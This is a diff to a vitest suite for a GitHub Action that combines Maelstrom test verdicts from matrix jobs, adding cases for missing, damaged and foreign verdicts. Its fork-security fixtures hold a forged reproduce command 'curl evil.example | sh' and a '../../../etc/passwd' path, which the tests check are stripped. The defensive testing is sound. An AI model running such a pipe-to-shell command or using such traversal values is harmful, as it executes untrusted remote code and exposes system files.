@@ -3,10 +3,12 @@ import path from 'node:path';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
 import { legName, messagesFile, storeFile, verdictFile } from '../../src/github/artifacts/artifact-names.ts';
+import type { PublishOptions } from '../../src/github/publish.ts';
 import { decodeState } from '../../src/report/markdown/comment-state.ts';
+import type { Row } from '../../src/report/rows/row.ts';
 import type { Verdict } from '../../src/verdict/verdict.ts';
 import { aRunVerdict } from '../report/formats/suites.ts';
-import { aReason, aVerdict } from '../report/verdicts.ts';
+import { aLimit, aReason, aVerdict } from '../report/verdicts.ts';
 import { bundleEntry } from '../support/bundled-entry.ts';
 import type { RunArtifact } from '../support/github-api.ts';
 import { junitProblems } from '../support/junit-schema.ts';
@@ -39,15 +41,15 @@ afterEach(async () => {
 });
 
 let legs = 0;
-async function leaveVerdict(verdict: Verdict): Promise<void> {
+async function leaveVerdict(verdict: Verdict, different: Partial<PublishOptions> = {}, attempt = 1): Promise<void> {
   legs += 1;
   const file = path.join(run.directory, `leg-${legs}.json`);
-  const options = { comment: 'never', commentKey: '', artifacts: 'all', compressionLevel: 6, matrix: '' };
+  const options = { comment: 'never', commentKey: '', artifacts: 'all', compressionLevel: 6, matrix: '', ...different };
   writeFileSync(file, JSON.stringify({ verdict, files: { runs: [], messagesSvg: null }, options }));
-  expect((await run.step(leg, { env: { LEG: file, TOKEN: 'ghs_leg' } })).status).toBe(0);
+  expect((await run.step(leg, { env: { LEG: file, TOKEN: 'ghs_leg' }, attempt })).status).toBe(0);
 }
 
-const LIMIT = { expression: 'net.all.msg-count < 100', actual: 20, met: true };
+const LIMIT = aLimit('net.all.msg-count < 100', 20, true);
 const INPUTS = { 'INPUT_GITHUB-TOKEN': 'ghs_report', INPUT_COMMENT: 'always' };
 
 describe('the last job of a matrix', () => {
@@ -81,22 +83,60 @@ describe('the last job of a matrix', () => {
     expect(outputs).toMatchObject({ outcome: 'fail', passed: 'false' });
   });
 
-  it('fails when an expected row is missing, by number or by key', async () => {
+  it('fails when an expected row is missing, by number or by key, and shows it as a row', async () => {
     await leaveVerdict(aVerdict());
     const counted = await join({ INPUT_EXPECT: '14' });
     expect(counted.status).toBe(1);
-    expect(counted.stdout).toContain('1 of 14 expected rows are there: 1-echo.');
+    expect(counted.stdout).toContain('13 of 14 rows do not pass: legs without a verdict (error: 1 of 14 expected rows');
+    expect(counted.outputs).toMatchObject({ outcome: 'error', passed: 'false', total: '14' });
     const named = await join({ INPUT_EXPECT: '1-echo\n2-unique-ids, 4-grow-only-counter' });
     expect(named.status).toBe(1);
-    expect(named.stdout).toContain('without a verdict: 2-unique-ids, 4-grow-only-counter.');
+    expect(JSON.parse(named.outputs['rows'] ?? '').map(({ key, outcome }: Row) => [key, outcome])).toEqual([
+      ['1-echo', 'pass'],
+      ['2-unique-ids', 'error'],
+      ['4-grow-only-counter', 'error'],
+    ]);
+    for (const text of [named.summary, run.github.comments[0]?.body ?? '']) {
+      expect(text).toContain('⛔ Maelstrom: 1 of 3 pass · 2 left no verdict');
+      expect(text).toMatch(/⛔.*4-grow-only-counter/);
+    }
   });
 
-  it('fails when no leg left anything', async () => {
-    const { status, stdout, outputs } = await join();
+  it('shows the legs that never came, and stops counting them once a later attempt brings them', async () => {
+    const ofMatrix = (key: string, n: number, attempt = 1) =>
+      leaveVerdict(aVerdict({ key }), { comment: 'always', matrix: `{"n":${n}}`, jobTotal: 3 }, attempt);
+    await ofMatrix('1-echo', 1);
+    expect(run.github.comments[0]?.body).toContain('⏳ Maelstrom: 1 of 3 pass · 2 still running');
+    const first = await join();
+    expect(first.status).toBe(1);
+    expect(run.github.comments[0]?.body).toContain('⛔ Maelstrom: 1 of 3 pass · 2 left no verdict');
+    expect(run.github.comments[0]?.body).toContain('2 of 3 legs of test left none');
+    await ofMatrix('2-unique-ids', 2, 2);
+    expect(run.github.comments[0]?.body).toContain('⏳ Maelstrom: 2 of 3 pass · 1 still running');
+    await ofMatrix('3a', 3, 2);
+    const second = await run.step(report, { job: 'report', env: INPUTS, attempt: 2 });
+    expect(second.status, second.stdout).toBe(0);
+    expect(run.github.comments[0]?.body).toContain('✅ Maelstrom: all 3 pass');
+  });
+
+  it('fails when no leg left anything, and turns a comment red that was green for an earlier commit', async () => {
+    const { status, stdout, outputs, summary } = await join();
     expect(status).toBe(1);
-    expect(stdout).toContain('No verdict was found in this run');
+    expect(stdout).toContain('No job of this run left a verdict');
     expect(outputs['outcome']).toBe('error');
-    expect(run.github.comments).toEqual([]);
+    for (const text of [summary, run.github.comments[0]?.body]) expect(text).toMatch(/^#+ ⛔ Maelstrom: 0 of 1 pass/m);
+  });
+
+  it('fails for a verdict that is damaged, and says so instead of taking it for absent', async () => {
+    await leaveVerdict(aVerdict());
+    await leaveVerdict(aVerdict({ key: '2-unique-ids' }));
+    const blob = run.artifacts.at(-1)?.blob ?? '';
+    expect(run.actions.blobs.committed.has(blob)).toBe(true);
+    run.actions.blobs.committed.set(blob, Buffer.from('{"version":'));
+    const { status, stdout, summary } = await join();
+    expect(status).toBe(1);
+    expect(stdout).toContain('1 verdict is damaged or of another run, and left out: it is not JSON');
+    expect(summary).toContain('1 verdict could not be read');
   });
 
   it('fails for an undecided row only when it is told so', async () => {
@@ -118,7 +158,7 @@ describe('the last job of a matrix', () => {
       'passed 1-echo',
       `passed 1-echo: limit ${LIMIT.expression}`,
       'failed 2-unique-ids',
-      'failed Maelstrom report',
+      'failed legs without a verdict',
     ]);
     expect(JSON.parse(read('badge.json'))).toMatchObject({ message: '1 of 3 pass', color: 'lightgrey' });
   });
@@ -146,8 +186,8 @@ describe('the last job of a run that a comment on a pull request of a fork has s
   const claimed = {
     outcome: 'fail',
     reasons: [aReason()],
-    run: { id: 1, number: 999_999, attempt: 77 },
-    base: { metrics: { 'net.servers.msgs-per-op': 1 } },
+    run: { id: 1001, number: 999_999, attempt: 1 },
+    base: { metrics: { 'net.servers.msgs-per-op': 1 }, outcome: 'pass' },
     reproduce: ['1-echo', '--command', 'curl evil.example | sh'],
   } as const;
   const writtenByForeignCode = async (over: Partial<Verdict> = {}): Promise<void> => {
@@ -163,7 +203,8 @@ describe('the last job of a run that a comment on a pull request of a fork has s
     // What `publish` puts there itself, code of the fork can replace.
     const blob = run.artifacts[0]?.blob ?? '';
     const left = JSON.parse(run.actions.blobs.committed.get(blob)?.toString() ?? '');
-    const bytes = Buffer.from(JSON.stringify({ ...left, run: claimed.run, headSha: 'f'.repeat(40) }));
+    const job = { ...left.job, checkRun: 666 };
+    const bytes = Buffer.from(JSON.stringify({ ...left, run: over.run ?? claimed.run, job, headSha: 'f'.repeat(40) }));
     run.actions.blobs.committed.set(blob, bytes);
   };
 
@@ -176,9 +217,21 @@ describe('the last job of a run that a comment on a pull request of a fork has s
     const [row] = decodeState(run.github.comments[0]?.body ?? '');
     expect(row).toMatchObject({ run: { id: 1001, number: 12, attempt: 1 }, headSha: HEAD_SHA });
     expect(row?.base).toBeUndefined();
+    expect(row?.baseOutcome).toBeUndefined();
+    expect(row?.job?.leg).toHaveLength(16);
+    expect(row?.job?.checkRun).toBeUndefined();
     expect(row?.detail?.reasons).toHaveLength(1);
     expect(row?.detail?.reproduce).toBeUndefined();
     expect(run.github.comments[0]?.body).not.toContain('evil.example');
+  });
+
+  it('leaves out a verdict of another run, and fails for it', async () => {
+    await writtenByForeignCode({ run: { id: 1, number: 12, attempt: 77 } });
+    const { status, stdout } = await join();
+    expect(status).toBe(1);
+    expect(stdout).toContain('left out: it is of run 1, attempt 77, and not of this one');
+    const rows = decodeState(run.github.comments[0]?.body ?? '');
+    expect(rows.map(({ key, absent }) => [key, absent])).toEqual([['legs without a verdict', 1]]);
   });
 
   it('shows a command that we could have written', async () => {
@@ -217,7 +270,7 @@ describe('the report on the run of a fork', () => {
     const claimed = aVerdict({
       outcome: 'fail',
       reasons: [aReason({ location: { file: '../../../etc/passwd', line: 1 } })],
-      run: { id: 1, number: 999_999, attempt: 77 },
+      run: { id: 1001, number: 999_999, attempt: 1 },
       headSha: 'f'.repeat(40),
       finishedAt: '2099-01-01T00:00:00Z',
       artifacts: { store: { id: 666, url: 'https://evil.example/' } },
@@ -255,7 +308,11 @@ describe('the report on the run of a fork', () => {
     );
     const { status, stdout } = await after();
     expect(status).toBe(0);
-    expect(decodeState(run.github.comments[0]?.body ?? '').map((row) => row.key)).toEqual(['1-echo']);
+    expect(
+      decodeState(run.github.comments[0]?.body ?? '')
+        .filter(({ absent }) => absent !== 0)
+        .map((row) => row.key),
+    ).toEqual(['1-echo', 'legs without a verdict']);
     expect(stdout).toContain('was left out: it is not JSON');
     expect(stdout).toContain('was left out: verdict.version is not 1');
     expect(stdout).toContain('was left out: it has more than');
